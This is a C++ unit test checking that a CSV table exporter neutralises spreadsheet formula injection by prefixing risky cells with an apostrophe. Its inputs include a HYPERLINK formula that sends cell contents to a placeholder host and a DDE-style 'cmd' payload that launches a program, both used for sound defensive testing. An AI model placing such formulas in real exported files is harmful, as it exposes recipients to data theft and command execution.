// Tables as CSV: what a spreadsheet opens is data, never a formula.
#include <doctest/doctest.h>

#include "table.h"

using namespace congbo;

TEST_CASE("CSV cells a spreadsheet would run as formulas are kept as text — real numbers stay numbers") {
  Table t;
  t.head = {"Đơn vị", "=Điểm"};
  t.rows = {{TableCell("=HYPERLINK(\"http://x/?\"&A1,\"Bấm\")"), TableCell::number("-5")},
            {TableCell("+cmd|' /C calc'!A0"), TableCell::number("12.5")},
            {TableCell("-2+3+cmd"), TableCell::number("=1+1")},
            {TableCell("@SUM(A1:A9)"), TableCell("\tchữ")},
            {TableCell("Chi bộ - Phòng 1"), TableCell("")}};
  CHECK(table_csv(t) ==
        "\xEF\xBB\xBF"
        "Đơn vị,'=Điểm\r\n"
        "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Bấm\"\")\",-5\r\n"
        "'+cmd|' /C calc'!A0,12.5\r\n"
        "'-2+3+cmd,'=1+1\r\n"
        "'@SUM(A1:A9),'\tchữ\r\n"
        "Chi bộ - Phòng 1,\r\n");
}
